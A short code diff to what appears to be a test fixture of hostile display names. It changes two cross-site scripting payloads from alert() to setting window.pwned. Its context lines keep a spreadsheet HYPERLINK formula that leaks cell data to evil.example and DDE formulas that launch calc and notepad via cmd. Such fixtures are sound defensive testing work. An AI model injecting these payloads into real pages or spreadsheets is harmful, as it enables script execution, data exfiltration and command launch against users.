@@ -4,8 +4,8 @@
  * right-to-left text.
  */
 export const HOSTILE_NAMES = {
-  script: "<script>alert('x')</script>",
-  html: "<img src=x onerror=alert(1)><b>bold</b>",
+  script: "<script>window.pwned = true</script>",
+  html: "<img src=x onerror=\"window.pwned = true\"><b>bold</b>",
   hyperlink: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
   dde: "+cmd|' /C calc'!A0",
   minus: "-2+3+cmd|' /C notepad'!'A1'",
